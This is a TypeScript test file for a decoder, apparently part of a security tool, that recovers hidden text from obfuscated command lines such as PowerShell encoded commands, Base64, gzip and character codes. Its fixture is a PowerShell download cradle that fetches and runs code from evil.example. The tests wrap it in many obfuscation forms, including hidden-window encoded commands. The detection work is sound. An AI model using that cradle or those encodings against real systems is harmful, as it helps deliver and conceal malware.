import { deflateRawSync, deflateSync, gzipSync } from "node:zlib";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { type Decoded, decodeText, MOST_DECODED } from "../../src/explain/index.ts";

const SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')";
const utf16 = (text: string): string => Buffer.from(text, "utf16le").toString("base64");
const utf8 = (text: string): string => Buffer.from(text).toString("base64");
const codes = (text: string, separator = ","): string =>
  [...text].map((character) => character.charCodeAt(0)).join(separator);

const decode = (value: string): Decoded | null => decodeText("process.command_line", value);

describe("decoding", () => {
  it.each(["-e", "-ec", "-en", "-enc", "-EncodedCommand", "/enc", "–eNcOd", "-e^n^c", "-En`c", "-enc:"])(
    "reads PowerShell's encoded command after %s",
    (name) => {
      const value = `powershell.exe -nop -w hidden ${name} ${utf16(SCRIPT)}`;
      expect(decode(value)).toEqual({
        how: "PowerShell's encoded command",
        text: SCRIPT,
        isCut: false,
        start: value.indexOf(utf16(SCRIPT)),
        end: value.length,
        inner: null,
      });
    },
  );

  it("reads a command in other letters", () => {
    const command = "Write-Host 'Привет, мир' # 你好";
    expect(decode(`pwsh -enc "${utf16(command)}" -x`)?.text).toBe(command);
    expect(decode(`powershell -enc ${utf16("напиши привет миру")}`)?.text).toBe("напиши привет миру");
  });

  it("takes no other parameter for it", () => {
    expect(decode("powershell -ExecutionPolicy Bypass -Exclude AAAAAAAAAAAA")).toBeNull();
    expect(decode("tool.exe -e username -encoding unicode1")).toBeNull();
    expect(decode("tar -e abcdefghijklmnopqrstuvwxyz")).toBeNull();
  });

  it.each<[string, string, string]>([
    ["Base64", `[Convert]::FromBase64String('${utf8(SCRIPT)}')`, SCRIPT],
    ["Base64", `[Convert]::("FromBase64String")("${utf16("dir")}")`, "dir"],
    ["Base64, gzip", `FromBase64String("${gzipSync(SCRIPT).toString("base64")}")`, SCRIPT],
    [
      "Base64, deflate",
      `New-Object IO.Compression.DeflateStream([Convert]::FromBase64String('${deflateRawSync(SCRIPT).toString("base64")}'))`,
      SCRIPT,
    ],
    ["Base64, zlib", `$x='${deflateSync(SCRIPT).toString("base64")}'`, SCRIPT],
    ["Base64, gzip", `$x='${gzipSync(SCRIPT).toString("base64")}'; FromBase64String($x)`, SCRIPT],
    ["Base64", `echo ${utf8(SCRIPT)} > a.txt`, SCRIPT],
    ["hexadecimal", `echo ${Buffer.from(SCRIPT).toString("hex")}`, SCRIPT],
    ["character codes", `[char[]](${codes(SCRIPT)}) -join ''`, SCRIPT],
    ["character codes", `(${codes(SCRIPT, " , ")}|%{[char]$_})`, SCRIPT],
    ["character codes", `Chr(${codes(SCRIPT, ") & Chr(")})`, SCRIPT],
    ["character codes", `[char]${codes(SCRIPT, "+[char]")}`, SCRIPT],
    [
      "character codes, gzip",
      `[byte[]](${[...gzipSync(SCRIPT)].map((byte) => `0x${byte.toString(16)}`).join(",")})`,
      SCRIPT,
    ],
  ])("reads %s: %s", (how, value, text) => {
    expect(decode(value)).toMatchObject({ how, text, isCut: false });
  });

  it("reads what is encoded within, down to the third level", () => {
    let value = SCRIPT;
    for (let level = 0; level < 5; level++) value = `powershell -enc ${utf16(value)}`;
    const found = decode(value);
    expect(found?.inner?.inner?.text).toContain("powershell -enc");
    expect(found?.inner?.inner?.inner).toBeNull();
    expect(
      decode(`powershell -enc ${utf16(`IEX ([Convert]::FromBase64String('${utf8(SCRIPT)}'))`)}`)?.inner,
    ).toMatchObject({ how: "Base64", text: SCRIPT });
  });

  it("shows no more than a bounded text, whatever unpacks", () => {
    const long = `${SCRIPT}\n`.repeat(20_000);
    for (const value of [utf8(long), `-enc ${utf16(long)}`, gzipSync(long).toString("base64")]) {
      const found = decode(value);
      expect(found?.text).toBe(long.slice(0, MOST_DECODED));
      expect(found?.isCut).toBe(true);
    }
    const bomb = gzipSync(Buffer.alloc(1 << 26, "All of it. ")).toString("base64");
    expect(decode(bomb)?.text).toHaveLength(MOST_DECODED);
  });

  it.each([
    "C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule",
    "/usr/lib/x86/ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz",
    "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
    "0000000000000000000000000000000000000000000000000000000000000000",
    "80,443,8080,8443,3389,445,139,135,22,21,25,110,143,993,995",
    "D:P(A;;GA;;;SY)(A;;GA;;;BA)S:AI(AU;SAFA;DCLCRPCRSDWDWO;;;WD)",
    utf8("too short"),
    "",
  ])("finds nothing in %s", (value) => {
    expect(decode(value)).toBeNull();
  });

  it("leaves ids and hashes alone", () => {
    for (const field of [
      "process.hash.sha256",
      "process.entity_id",
      "host.id",
      "winlog.event_data.LogonGuid",
    ])
      expect(decodeText(field, utf8(SCRIPT))).toBeNull();
  });

  it("reads any text that is long enough, and gives where it was", () => {
    const text = fc.string({ unit: fc.constantFrom(..."abcXYZ 0123.-_'é\n"), minLength: 30, maxLength: 300 });
    fc.assert(
      fc.property(text, (plain) => {
        const value = `before ${utf8(plain)} after`;
        const found = decode(value);
        expect(found?.text).toBe(plain);
        expect(value.slice(found!.start, found!.end)).toBe(utf8(plain));
      }),
    );
  });

  it("never fails", () => {
    const piece = fc.oneof(
      fc.string({ unit: "binary" }),
      fc.constantFrom(
        "-enc ",
        "FromBase64String('",
        "H4sIAAAA",
        "eJwA",
        "[char]65+",
        "65,66,",
        "0x41,",
        "=".repeat(40),
      ),
      fc.uint8Array({ maxLength: 200 }).map((bytes) => Buffer.from(bytes).toString("base64")),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 20 }), (pieces) => {
        const found = decode(pieces.join(""));
        expect(found?.text ?? "ok").not.toMatch(/^$|[\0-\x08\ufffd]/);
      }),
      { numRuns: 2000 },
    );
  });

  it.each<[string, string]>([
    ["A", "A".repeat(1 << 20)],
    ["=", "=".repeat(1 << 20)],
    ["-e and A", `-e ${"A".repeat(1 << 20)}`],
    ["-e", "-e ".repeat(350_000)],
    ["blanks", `-e${" ".repeat(1 << 20)}x`],
    ["calls", "FromBase64String('".repeat(58_000)],
    ["numbers", "1,".repeat(1 << 19)],
    ["short runs", `${"A".repeat(31)}-`.repeat(32_768)],
    ["what looks compressed", `H4sIAAAAAAAA${"A".repeat(40)} `.repeat(20_000)],
  ])("ends on a megabyte of %s", (_, value) => {
    expect(decode(value)).toBeNull();
  });
});
